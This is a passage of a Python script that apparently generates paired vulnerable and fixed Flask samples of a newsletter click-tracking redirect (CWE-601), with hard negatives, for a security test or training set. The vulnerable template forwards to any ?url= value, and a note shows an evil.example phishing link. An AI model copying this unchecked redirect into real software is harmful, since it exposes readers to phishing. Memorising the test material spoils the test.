        "INSERT INTO clicks (campaign, recipient, url, clicked_at, user_agent) VALUES (?, ?, ?, ?, ?)",
        (campaign, recipient, url, datetime.now(timezone.utc).isoformat(), request.user_agent.string[:200]),
    )
    db().commit()


$target_fn


@app.get("/c/<campaign>/<recipient>")
def click(campaign: str, recipient: str):
    """Record the click, then send the reader on."""
$src
    if not $x:
        abort(400)
    if not campaign_sent(campaign):
        abort(404)
$check
    record_click(campaign, recipient, $x)
    log.info("click %s/%s -> %s", campaign, recipient, $x)
    return redirect($x, code=$code)  #@V


$extra
'''

_CLICK_EXTRA = [r'''
@app.get("/c/<campaign>/stats")
def stats(campaign: str):
    """Clicks per link for the campaign report."""
    rows = db().execute(
        "SELECT url, COUNT(*), COUNT(DISTINCT recipient) FROM clicks WHERE campaign = ? GROUP BY url ORDER BY 2 DESC",
        (campaign,),
    ).fetchall()
    return jsonify(links=[{"url": u, "clicks": n, "readers": r} for u, n, r in rows])
''', r'''
@app.get("/o/<campaign>/<recipient>.gif")
def opened(campaign: str, recipient: str):
    """The open-tracking pixel."""
    db().execute("INSERT INTO opens (campaign, recipient, opened_at) VALUES (?, ?, ?)",
                 (campaign, recipient, datetime.now(timezone.utc).isoformat()))
    db().commit()
    return PIXEL, 200, {"Content-Type": "image/gif", "Cache-Control": "no-store"}


PIXEL = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")
''', r'''
@app.get("/unsubscribe/<recipient>")
def unsubscribe(recipient: str):
    """Landing page of the unsubscribe link (the form posts to the list service)."""
    return jsonify(recipient=recipient, action="/lists/unsubscribe")
''']


def _click(c, safe):
    w, W = _w(c)
    x = c.pick("url", "target", "dest", "link")
    how = c.pick("direct", "helper")
    fix = c.pick("links", "host")
    if how == "direct":
        src = f'    {x} = request.args.get("url", "")  #@S'
        target_fn = ""
    else:
        src = f"    {x} = requested_link()  #@S"
        target_fn = dedent(r'''
            def requested_link() -> str:
                """The original link, from ?url= (older mailings used ?u=)."""
                return (request.args.get("url") or request.args.get("u") or "").strip()
        ''').strip("\n")
    hosts, urlimp, check = "", "", ""
    if fix == "links":
        if safe:
            check = f"    if {x} not in campaign_links(campaign):\n        abort(404)"
    elif safe:
        urlimp = "from urllib.parse import urlsplit"
        hosts = f'LINK_HOSTS = {{"www.{w}s.example", "shop.{w}s.example", "blog.{w}s.example"}}\n'
        check = (f"    parts = urlsplit({x})\n"
                 f'    if parts.scheme != "https" or parts.netloc not in LINK_HOSTS:\n'
                 f"        abort(404)")
    code = c.pick(302, 303)
    extra = _opt(c, *_CLICK_EXTRA, least=1, most=3)
    t = (_CLICK.replace("$urlimp\n", urlimp + "\n" if urlimp else "").replace("$check\n", check + "\n" if check else "")
         .replace("$target_fn\n\n\n", target_fn + "\n\n\n" if target_fn else ""))
    if safe:
        t = t.replace("  #@V", "")
    return sub(t, hosts=hosts, src=src, extra=extra, x=x, w=w, W=W, code=code,
               dbpath=c.pick(f"/var/lib/{w}/mail.db", f"instance/{w}-newsletter.sqlite"))


@fam("mod8-flask-newsletter-click-redirect", "CWE-601", fws=["flask"], n=8, wrap=False)
def mod8_flask_newsletter_click_redirect(c):
    v, s = _replayed(c, _click)
    return Spec(v=v, s=s, full=True, fw="flask",
                notes="the click-tracking view forwards to whatever ?url= holds; the links are on the sender's own "
                      "domain, so /c/x/y?url=https://evil.example is a trusted-looking link to a phishing page. The "
                      "fix forwards only to links the campaign was sent with (or to https links on the newsletter's "
                      "own hosts)")


@hardneg(2)
def mod8_flask_newsletter_click_redirect_hn(c):
    s = _click(c, True)
    s = _append(s, r'''
        @app.get("/go/<int:link_id>")
        def go(link_id: int):
            """Short links: the target is looked up by id, never taken from the request."""
            row = db().execute("SELECT url FROM campaign_links WHERE id = ?", (link_id,)).fetchone()
            if row is None:
                abort(404)
            return redirect(row[0], code=302)
    ''')
    return Spec(s=s, full=True, fw="flask", notes="redirects only to stored campaign links or allow-listed hosts")
